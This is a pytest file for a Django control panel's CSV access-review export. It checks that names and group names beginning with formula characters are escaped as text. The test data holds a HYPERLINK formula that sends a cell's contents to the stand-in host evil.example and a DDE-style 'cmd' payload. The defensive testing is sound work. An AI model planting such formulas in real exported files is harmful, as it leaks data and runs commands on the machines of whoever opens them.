"""CSV exports open in a spreadsheet as data: a cell a user chose (a name, a group) that
starts like a formula is written with a leading ``'``, so it shows as text and never runs
(controlpanel.kit.csv_safe)."""

import csv
import io

import pytest
from django.core.management import call_command

from tests.factories import GroupFactory, UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Open the report")'
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def access_review_csv() -> dict[str, dict[str, str]]:
    out = io.StringIO()
    call_command("access_review", "--format", "csv", stdout=out, stderr=io.StringIO())
    return {row["email"]: row for row in csv.DictReader(io.StringIO(out.getvalue()))}


def test_a_formula_chosen_as_a_name_is_written_as_text_in_the_access_review(admin):
    UserFactory(email="mallory@example.com", name=HYPERLINK)
    rows = access_review_csv()
    assert rows["mallory@example.com"]["name"] == "'" + HYPERLINK


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_in_names_and_group_names(admin, start):
    group = GroupFactory(name=f"{start}cmd|' /C calc'!A0")
    UserFactory(email="mallory@example.com", name=f"{start}1+1", groups=[group])
    row = access_review_csv()["mallory@example.com"]
    assert row["name"] == f"'{start}1+1"
    assert row["groups"] == f"'{start}cmd|' /C calc'!A0"


def test_ordinary_cells_and_the_no_access_dash_are_unchanged(admin):
    UserFactory(email="nina@example.com", name="Nina New-Person")
    row = access_review_csv()["nina@example.com"]
    assert row["name"] == "Nina New-Person"
    assert row["customer"] == "-"  # no access: a placeholder, not a formula
    assert access_review_csv()["ada@example.com"]["customer"] == "CRUD"
